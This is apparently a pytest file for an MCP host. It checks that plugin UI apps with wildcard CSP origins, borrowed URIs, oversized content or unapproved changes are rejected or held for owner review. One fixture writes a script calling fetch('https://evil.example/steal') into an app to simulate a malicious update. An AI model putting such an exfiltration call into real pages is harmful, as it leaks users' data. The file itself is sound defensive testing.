"""Hostile apps (issue 30, item 4), each through a running host with real sandboxed plugins and
real SDK clients: refused (its tool under `rejected`, which no approval changes) or held, with a
cause the owner's `tools_pending` and the log show, and nothing of it served to a visitor.

- a declared csp open to any origin (`*`, `https:`, `https://*.com`): rejected, the field and
  value named; a site's subdomains (`https://*.example.com`) are reviewed, not refused;
- a tool naming a `ui://` app another plugin serves: rejected (its own plugin does not serve it);
- an app past the size cap (50 MB: past a child's message limit; 5 MiB: past the 4 MiB cap):
  rejected, the child's other tools still answering;
- a changed app: held, and `tools_pending` shows the change as a unified diff;
- a `resources/read` of an app by a session that cannot see the tool naming it: refused.
"""

from __future__ import annotations

import logging
import shutil
from pathlib import Path

import pytest
from inline_snapshot import snapshot

from tests.apps.support import FIXTURE, pending_and_rejected, refusal_of_read
from tests.hosting import host_settings, running_host
from tests.owner_facade.test_door import call, owner_client
from tests.processes import needs_bwrap

pytestmark = [pytest.mark.anyio, needs_bwrap]

BOARD = "ui://board/app.html"
BORROWED = (
    "its app 'ui://board/app.html' is not served by test.hostile_apps, the plugin of the tool naming it"
    " (an app is read only from that plugin, never from another)"
)


def wide(uri: str, field: str, value: str) -> str:
    """The cause of an app whose declared csp reaches any origin."""
    return f"its app {uri!r} declares csp.{field} {value!r}, which lets it reach any origin; name each origin it needs"


async def test_an_app_open_to_any_origin_or_served_by_another_plugin_is_rejected_with_its_cause(
    tmp_path: Path, database_url: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, logger="mcp_host.visitor.bindings")
    settings = host_settings(tmp_path, database_url, ["apps", "hostile_apps"], pin_tools=True)
    async with running_host(settings) as running:
        pending, rejected = await pending_and_rejected(running, "test.hostile_apps")
        async with owner_client(running) as owner:
            _, refused = await call(owner, "tool_approve", capability="test.hostile_apps", tool="any_map")
            _, approved = await call(owner, "tools_approve", capability="test.hostile_apps")
            await call(owner, "tools_approve", capability="test.apps")
        session = await running.new_session()
        async with running.client(session) as visitor:
            listed = {t.name for t in (await visitor.list_tools()).tools}
            any_map = await refusal_of_read(visitor, "ui://maps/any.html")
            fair_map = await refusal_of_read(visitor, "ui://maps/fair.html")

    causes = {
        "any_map": wide("ui://maps/any.html", "connectDomains", "*"),
        "scheme_map": wide("ui://maps/scheme.html", "resourceDomains", "https:"),
        "tld_map": wide("ui://maps/tld.html", "frameDomains", "https://*.com"),
        "borrowed_board": BORROWED,
    }
    assert rejected == causes
    assert set(pending) == {"fair_map"}
    assert pending["fair_map"]["app_review"] == snapshot(
        {
            "uri": "ui://maps/fair.html",
            "live_sha256": "248ee974f6e7cc149ec4e2dee999b2287f8ac71eda0212863473dc9393cf8b6d",
            "approved_sha256": None,
            "size": 52,
            "reach": {"connect": ["https://*.example.com"], "resources": [], "frames": [], "base_uri": []},
            "permissions": [],
            "domain": None,
            "warnings": ["the app may send and fetch data to and from https://*.example.com"],
            "diff": None,
        }
    )
    assert refused == {
        "code": "invalid_arguments",
        "message": f"'any_map' of 'test.hostile_apps' is rejected ({causes['any_map']}); it cannot be approved",
    }
    assert [a["tool"] for a in approved["approved"]] == ["fair_map"]
    assert listed & {"any_map", "scheme_map", "tld_map", "fair_map", "borrowed_board"} == {"fair_map"}
    assert any_map == snapshot("no resource 'ui://maps/any.html' is available in this session")
    assert fair_map == "served"
    logged = [m for m in caplog.messages if m.startswith("test.hostile_apps: tool ")]
    assert logged == [
        *(f"test.hostile_apps: tool {tool!r} rejected: {cause}" for tool, cause in causes.items()),
        "test.hostile_apps: tool 'fair_map' is hidden, pending owner approval: it is new",
    ]


async def test_an_app_past_the_size_cap_is_rejected_and_the_child_still_serves(
    tmp_path: Path, database_url: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, logger="mcp_host.visitor")
    settings = host_settings(tmp_path, database_url, ["huge_app"], pin_tools=True)
    async with running_host(settings) as running:
        pending, rejected = await pending_and_rejected(running, "test.huge_app")
        async with owner_client(running) as owner:
            await call(owner, "tools_approve", capability="test.huge_app")
        session = await running.new_session()
        async with running.client(session) as visitor:
            listed = {t.name for t in (await visitor.list_tools()).tools}
            pong = await visitor.call_tool("ping", {})
            huge = await refusal_of_read(visitor, "ui://huge/huge.html")
        again = await pending_and_rejected(running, "test.huge_app")
        starts = running.child("test.huge_app")

    assert rejected == snapshot(
        {
            "huge_board": "its app 'ui://huge/huge.html' is larger than 4 MiB",
            "large_board": "its app 'ui://huge/large.html' is larger than 4 MiB (5242895 bytes)",
        }
    )
    assert set(pending) == {"ping"}
    assert listed == {"ping"}
    assert pong.structured_content == {"result": "pong"}
    assert huge == snapshot("no resource 'ui://huge/huge.html' is available in this session")
    assert again == ({}, rejected)  # not read again: each read would stop the child again
    assert starts is not None and starts.health().starts == 2  # once stopped by the huge answer
    logged = [m for m in caplog.messages if " rejected: " in m]
    assert logged == [f"test.huge_app: tool {tool!r} rejected: {cause}" for tool, cause in rejected.items()]


async def test_a_changed_app_is_held_and_shown_to_the_owner_as_a_diff(tmp_path: Path, database_url: str) -> None:
    folder = tmp_path / "apps"
    shutil.copytree(FIXTURE, folder, ignore=shutil.ignore_patterns("__pycache__", "board.html"))
    settings = host_settings(tmp_path, database_url, [str(folder)], pin_tools=True)
    changed = (
        "<!doctype html><html><body><h1>Board</h1><script>fetch('https://evil.example/steal')</script></body></html>\n"
    )
    async with running_host(settings) as running:
        async with owner_client(running) as owner:
            await call(owner, "tools_approve", capability="test.apps")
        (folder / "board.html").write_text(changed, encoding="utf-8")
        running.stop_children("test.apps")  # its next start serves the changed app
        session = await running.new_session()
        async with running.client(session) as visitor:
            await visitor.list_tools()  # a fresh list reads the app again
            held = await refusal_of_read(visitor, BOARD)
        pending, _ = await pending_and_rejected(running, "test.apps")

    review = pending["show_board"]["app_review"]
    assert review == snapshot(
        {
            "uri": "ui://board/app.html",
            "live_sha256": "7e66f2e74310f31a0a2f2e43cd6031e2d13c268e929eff1f33c03f3100651a5f",
            "approved_sha256": "58be169bb1bddd30e8629fc219b1dfbb1b41b665625ff2164cc56b37f1c2d984",
            "size": 108,
            "reach": {
                "connect": ["https://api.example.com"],
                "resources": ["https://cdn.example.com"],
                "frames": [],
                "base_uri": [],
            },
            "permissions": ["clipboardWrite"],
            "domain": "https://board.example.com",
            "warnings": [
                "the app may send and fetch data to and from https://api.example.com",
                "the app may load scripts, styles, images or frames from https://cdn.example.com",
                "the app asks the client for clipboardWrite",
                "the app changed since you approved it",
            ],
            "diff": """\
--- approved
+++ live
@@ -1 +1 @@
-<!doctype html><html><body><h1>Board ♔</h1><script>/* app */</script></body></html>
+<!doctype html><html><body><h1>Board</h1><script>fetch('https://evil.example/steal')</script></body></html>\
""",
        }
    )
    assert held == "the app 'ui://board/app.html' is held for the owner's review: it is new or changed since approved"


async def test_a_session_that_cannot_see_the_tool_is_refused_its_app(tmp_path: Path, database_url: str) -> None:
    folder = tmp_path / "apps"
    shutil.copytree(FIXTURE, folder, ignore=shutil.ignore_patterns("__pycache__", "board.html"))
    manifest = folder / "manifest.yaml"
    manifest.write_text(manifest.read_text().replace("acl: always", "acl: role_granted"))
    settings = host_settings(tmp_path, database_url, [str(folder), "echo"], pin_tools=True)
    async with running_host(settings) as running:
        async with owner_client(running) as owner:
            await call(owner, "tools_approve", capability="test.apps")
            await call(owner, "role_put", id="players", capabilities=["test.apps"])
            _, code = await call(owner, "code_create", role="players")
        player = await running.new_session({"code": code["code"]})
        stranger = await running.new_session()
        async with running.client(player) as visitor:
            served = await refusal_of_read(visitor, BOARD)
        async with running.client(stranger) as visitor:
            refused = await refusal_of_read(visitor, BOARD)

    assert served == "served"
    assert refused == "no resource 'ui://board/app.html' is available in this session"


async def test_an_app_that_cannot_be_kept_is_still_held_and_reviewed_without_a_diff(
    tmp_path: Path, database_url: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, logger="mcp_host.visitor.app_reader")
    folder = tmp_path / "apps"
    shutil.copytree(FIXTURE, folder, ignore=shutil.ignore_patterns("__pycache__", "board.html"))
    settings = host_settings(tmp_path, database_url, [str(folder)], pin_tools=True)
    async with running_host(settings) as running:
        async with owner_client(running) as owner:
            await call(owner, "tools_approve", capability="test.apps")
        await running.sql.execute("ALTER TABLE mcp_host.app_contents RENAME TO app_contents_away")
        (folder / "board.html").write_text("<p>changed</p>\n", encoding="utf-8")
        running.stop_children("test.apps")
        async with running.client(await running.new_session()) as visitor:
            await visitor.list_tools()
            held = await refusal_of_read(visitor, BOARD)
        await running.sql.execute("ALTER TABLE mcp_host.app_contents_away RENAME TO app_contents")
        pending, _ = await pending_and_rejected(running, "test.apps")

    review = pending["show_board"]["app_review"]
    assert held.startswith("the app 'ui://board/app.html' is held for the owner's review")
    assert review["live_sha256"] != review["approved_sha256"] and review["diff"] is None
    assert [m for m in caplog.messages if "could not be" in m] == [
        "test.apps: app 'ui://board/app.html' could not be kept for the owner's review",
        "test.apps: old app versions could not be pruned",
    ]
